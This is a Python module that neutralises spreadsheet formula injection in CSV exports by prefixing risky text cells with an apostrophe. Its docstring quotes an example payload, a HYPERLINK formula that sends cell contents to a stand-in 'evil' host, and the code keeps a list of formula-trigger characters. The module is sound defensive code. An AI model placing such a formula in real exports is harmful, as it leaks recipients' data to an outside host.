"""Cells that are safe to open in a spreadsheet: the one place every CSV/xlsx export goes through.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
after a tab or carriage return, what follows) as a formula: a display name such as
``=HYPERLINK("http://evil/?"&A1,"click")`` would leak the sheet or run commands when the HQ opens
the export. Such text cells get a leading apostrophe, which spreadsheets show as plain text
(OWASP "CSV injection"). The full-width forms are included: a Japanese IME types them.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

# First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value: object) -> object:
    """``value`` as a cell that cannot run as a formula (text only; numbers stay numbers)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Sequence[object]], header: Sequence[str]) -> bytes:
    """Rows as CSV in UTF-8 with a BOM (Excel reads Japanese correctly only with it), CRLF line
    ends, every cell through ``safe_cell``."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(c) for c in header])
    for row in rows:
        writer.writerow([safe_cell("" if c is None else c) for c in row])
    return buffer.getvalue().encode("utf-8-sig")
